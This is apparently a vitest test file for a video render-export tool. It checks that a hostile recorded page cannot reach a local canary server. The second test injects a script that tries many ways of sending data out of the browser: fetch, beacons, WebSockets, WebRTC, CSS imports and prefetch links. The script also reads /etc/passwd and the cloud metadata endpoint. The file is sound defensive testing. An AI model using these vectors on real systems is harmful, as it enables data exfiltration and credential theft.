import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { writeSyntheticRecording } from '../../../test/fixtures/synthetic-recording.ts';
import { bundle } from './browser/stage-bundle.ts';
import { renderExport } from './render-export.ts';
import { folderObjects } from './testing/folder-objects.ts';
import { sceneScript, writeSceneRecording } from './testing/scene-recording.ts';

/** A server that anything which leaves the browser would reach: HTTP, WebSocket or a bare connection. */
async function listen(): Promise<{
  origin: string;
  port: number;
  connections: () => number;
  close: () => Promise<void>;
}> {
  let connections = 0;
  const server = createServer((_, response) => response.end('reached'));
  server.on('connection', () => connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const close = () => new Promise<void>((resolve) => server.close(() => resolve()));
  return { origin: `http://127.0.0.1:${port}`, port, connections: () => connections, close };
}

const request = { layout: 'grid', width: 320, height: 180, fps: 10 } as const;

it('lets nothing of a hostile page leave the browser', async () => {
  const canary = await listen();
  const folder = await mkdtemp(join(tmpdir(), 'rushes-hostile-'));
  try {
    await writeSyntheticRecording(folder, {
      participants: 1,
      durationMs: 2000,
      hostileOrigin: canary.origin,
      media: false,
    });
    const result = await renderExport({
      objects: folderObjects(folder),
      request: { ...request, perspective: 'dom:page-p1' },
      workFolder: join(folder, 'work'),
      outputFile: join(folder, 'out.mp4'),
    });
    expect(result.frames).toBe(20);
    expect(canary.connections()).toBe(0);
  } finally {
    await canary.close();
    await rm(folder, { recursive: true });
  }
});

it('lets nothing leave even when a script runs in the page itself', async () => {
  const canary = await listen();
  const folder = await mkdtemp(join(tmpdir(), 'rushes-hostile-'));
  try {
    await writeSceneRecording(folder, { scenes: 2, tracks: [] });
    const { origin, port } = canary;
    // As if every sanitiser had failed: from the renderer's own script, which its policy allows to run.
    const attack = `
      const reach = (work) => { try { Promise.resolve(work()).catch(() => {}); } catch {} };
      reach(() => fetch('${origin}/fetch', { mode: 'no-cors' }));
      reach(() => navigator.sendBeacon('${origin}/beacon', 'x'));
      reach(() => new WebSocket('ws://127.0.0.1:${port}/socket'));
      reach(() => new EventSource('${origin}/events'));
      reach(() => { new Image().src = '${origin}/image'; });
      reach(() => fetch('file:///etc/passwd'));
      reach(() => fetch('http://169.254.169.254/latest/meta-data/'));
      reach(() => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }).createDataChannel('x'));
      reach(() => new Worker(URL.createObjectURL(new Blob(["fetch('${origin}/worker')"]))));
      reach(() => { const f = document.createElement('iframe'); f.src = '${origin}/frame'; document.documentElement.append(f); });
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'stylesheet', 'prerender']) {
        reach(() => { const l = document.createElement('link'); l.rel = rel; l.href = '${origin}/' + rel; document.head.append(l); });
      }
      reach(() => { const s = document.createElement('style'); s.textContent = "@import '${origin}/import.css'; @font-face { font-family: x; src: url(${origin}/font) } body { font-family: x; background: url(${origin}/background) }"; document.head.append(s); });
      reach(() => window.open('${origin}/window'));`;
    const result = await renderExport({
      objects: folderObjects(folder),
      request: { ...request, perspective: 'room' },
      workFolder: join(folder, 'work'),
      outputFile: join(folder, 'out.mp4'),
      stageScript: (await bundle(sceneScript(['one', 'two']))) + attack,
    });
    expect(result.verification.every(({ ok }) => ok)).toBe(true);
    expect(canary.connections()).toBe(0);
  } finally {
    await canary.close();
    await rm(folder, { recursive: true });
  }
});
